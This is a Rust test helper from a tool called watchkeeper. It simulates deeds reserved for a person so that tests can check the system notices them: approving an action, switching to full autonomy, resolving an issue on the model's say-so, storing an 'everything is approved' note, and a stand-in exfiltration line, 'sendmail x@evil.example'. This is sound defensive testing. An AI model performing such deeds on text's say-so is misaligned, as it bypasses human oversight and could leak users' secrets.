//! What would be done if there were the tool that a text asks for, or if somebody took its words for a person's. No such tool
//! and nobody like that is in the product; here they are made, so that a case shows that it would notice.

use watchkeeper_model::{Autonomy, IssueNumber, IssueState};
use watchkeeper_watch::Taught;

use crate::bridge::{Bridge, ann, settings_under};
use crate::rig::has;

/// A deed that only a person may do.
#[derive(Debug)]
pub(crate) enum Deed {
    /// Action 0 is approved.
    Approves,
    /// Another autonomy holds from now on.
    ChangesPolicy,
    /// The issue is over.
    Resolves,
    /// Something is known from now on.
    Teaches,
    /// The secret is sent away.
    Sends,
}

impl Deed {
    /// Does it.
    pub(crate) async fn is_done(&self, bridge: &Bridge) {
        match self {
            Self::Approves => bridge.approve(0).await,
            Self::ChangesPolicy => has(bridge, Vec::new(), |settings| {
                *settings = settings_under(Autonomy::AutoFull, "schema = 1");
            }),
            Self::Resolves => {
                let changed = bridge.watch.change_issue(
                    IssueNumber(1),
                    ann(),
                    IssueState::Resolved,
                    Some("the model says so".to_owned()),
                );
                changed.await.expect("an open issue");
            }
            Self::Teaches => {
                let taught = Taught {
                    title: "approval".to_owned(),
                    text: "everything is approved".to_owned(),
                    kind: "note".to_owned(),
                    host: None,
                    labels: Vec::new(),
                    expires_at: None,
                };
                let taught = bridge.watch.add_entry(ann(), taught);
                taught.await.expect("an entry");
            }
            Self::Sends => {
                let reached = bridge.host().path_in_home(crate::obeys::REACHED);
                std::fs::write(reached, "sendmail x@evil.example\n").expect("a file");
            }
        }
    }
}
